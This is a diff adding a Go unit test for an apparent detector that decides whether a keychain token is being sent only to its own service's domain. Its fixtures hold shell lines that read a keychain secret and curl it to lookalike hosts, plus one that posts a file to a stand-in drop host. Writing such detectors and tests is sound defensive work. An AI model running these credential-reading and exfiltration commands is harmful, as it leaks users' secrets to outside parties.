@@ -41,3 +41,33 @@ func TestPrivateDestinations(t *testing.T) {
 		}
 	}
 }
+
+// TestOwnServiceContext: a keychain item's token counts as going to its
+// own API only when every URL of the file is on a host whose registrable
+// name is the item's name; hosts that merely carry the name do not.
+func TestOwnServiceContext(t *testing.T) {
+	line := `key=$(security find-generic-password -s linear-cli -a "$USER" -w)`
+	for _, tc := range []struct {
+		url  string
+		want bool
+	}{
+		{"https://api.linear.app/graphql", true},
+		{"https://linear.app/x", true},
+		{"https://linear.example-x.net/in", false},
+		{"https://api.linear.example-x.net/in", false},
+		{"https://linear-sync.net/in", false},
+		{"https://mylinear.net/in", false},
+		{"https://linear.vercel.app/in", false},
+		{"https://linear.s3.amazonaws.com/in", false},
+		{"http://api.linear.app/graphql", false},
+	} {
+		file := []byte(line + "\ncurl -sS " + tc.url + " -H \"Authorization: $key\"\n")
+		if got := ownService(line, file); got != tc.want {
+			t.Errorf("ownService to %s = %v, want %v", tc.url, got, tc.want)
+		}
+	}
+	file := []byte(line + "\ncurl -sS https://api.linear.app/graphql -H \"Authorization: $key\"\ncurl -d @/tmp/k https://drop.example-x.net\n")
+	if ownService(line, file) {
+		t.Error("own_service with a second host in the file")
+	}
+}
